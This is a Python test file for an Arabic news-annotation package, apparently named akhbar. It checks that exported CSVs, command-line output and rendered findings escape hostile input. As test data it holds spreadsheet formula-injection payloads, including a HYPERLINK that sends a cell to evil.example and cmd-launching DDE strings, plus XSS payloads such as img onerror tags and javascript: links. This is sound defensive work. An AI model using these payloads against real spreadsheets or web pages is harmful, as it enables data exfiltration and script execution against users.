"""Nothing injected: data (ids, titles, outlets, correction rows, a shared folder's files)
never becomes a formula, a link, markup or a script in what akhbar writes."""

import csv
import json

import pandas as pd

import akhbar
from akhbar.cli import main as cli
from akhbar.io.export import to_corpus_csv, write_spans
from akhbar.views.written import findings, reading

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULAS = [HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def live_formulas(path):
    """Cells a spreadsheet would run: starting with = + - @ tab or CR, and not a plain number or sign."""
    with open(path, encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    return [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and len(c) > 1
            and not c.lstrip("+-").replace(".", "", 1).isdigit()]


def hostile_articles():
    return akhbar.inputs.as_articles(pd.DataFrame({
        "article_id": ["a1", "a2"], "title": [HYPERLINK, "+cmd|' /C calc'!A0"],
        "text": ["قال المشير خليفة حفتر إن تركيا تدعم طرابلس", "زار أردوغان الدوحة"],
        "source": ["@SUM(1+1)*cmd|' /C calc'!A0", "الجزيرة"], "url": ["-2+3+cmd|' /C calc'!A0", "\t=1+1"]}))


def test_a_formula_in_a_title_source_or_url_stays_text_in_the_corpus_csv(tmp_path):
    arts = hostile_articles()
    path = to_corpus_csv(arts, tmp_path / "corpus.csv")
    assert live_formulas(path) == []
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert back["title"].tolist() == ["'" + HYPERLINK, "'+cmd|' /C calc'!A0"]  # shown as text, not run


def test_a_formula_in_a_span_field_stays_text_in_spans_csv(tmp_path):
    arts = hostile_articles()
    spans = akhbar.annotate(arts)
    spans.loc[spans.index[0], "note"] = HYPERLINK
    spans.loc[spans.index[1], "canonical_id"] = "=1+1"
    path = write_spans(spans, tmp_path / "spans.csv")
    assert live_formulas(path) == []
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert back["note"].iloc[0] == "'" + HYPERLINK
    assert set(back["polarity"]) <= {"", "+", "-", "0"}  # a lone sign is not a formula: left alone


def test_the_command_line_writes_no_live_formula(tmp_path):
    src = tmp_path / "x.jsonl"
    src.write_text("".join(json.dumps({"id": f"=id{i}" if i else "a", "title": f, "text": "قال حفتر إن تركيا",
                                       "source": f, "url": f}, ensure_ascii=False) + "\n"
                           for i, f in enumerate(FORMULAS)), encoding="utf-8")
    out = tmp_path / "spans.csv"
    assert cli.main(["annotate", str(src), "--out", str(out), "--quiet"]) == 0
    assert live_formulas(out) == [] and live_formulas(tmp_path / "spans.themes.csv") == []


def test_an_unknown_id_from_a_correction_row_is_text_in_the_findings():
    arts = akhbar.inputs.as_articles(["قال المشير خليفة حفتر إن تركيا تدعم طرابلس"])
    spans = akhbar.annotate(arts)
    spans.loc[spans["canonical_id"] == "turkey", "canonical_id"] = "<img src=x onerror=alert(document.domain)>"
    text = findings(arts, spans)
    assert "<img" not in text and "&lt;img src=x onerror=alert&#40;document.domain&#41;&gt;" in text


def test_an_outlet_written_as_a_markdown_link_stays_text():
    arts = akhbar.inputs.as_articles(pd.DataFrame({
        "article_id": ["a", "b"], "source": ["[read more](javascript:alert(document.domain))", "الجزيرة"],
        "text": ["قال المشير خليفة حفتر إن تركيا تدعم طرابلس", "دعمت تركيا حكومة الوفاق"]}))
    text = findings(arts, akhbar.annotate(arts))
    assert "](javascript:" not in text and "[read more]" not in text
    assert "&#91;read more&#93;&#40;javascript:alert&#40;document.domain&#41;&#41;" in text


def test_a_shared_folders_reading_is_never_raw_html(tmp_path):
    (tmp_path / "readings").mkdir()
    (tmp_path / "readings" / "03.md").write_text(
        "<!-- describes: a -->\n**<bdi>حفتر</bdi>** <script>alert(1)</script><img src=x onerror=alert(1)> "
        "[more](javascript:alert(1)) [source](https://example.org)\n", encoding="utf-8")
    arts = akhbar.inputs.as_articles(pd.DataFrame({"article_id": ["a"], "path": [str(tmp_path / "a.txt")],
                                                   "text": ["وقال المشير خليفة حفتر"]}))
    text = reading(arts, akhbar.annotate(arts), notebook="03")
    hand = text.split("### A reading written by hand for these articles")[1]
    assert "<script>" not in hand and "<img" not in hand and "](javascript:" not in hand
    assert "**<bdi>حفتر</bdi>**" in hand and "[source](https://example.org)" in hand  # the author's Markdown stays
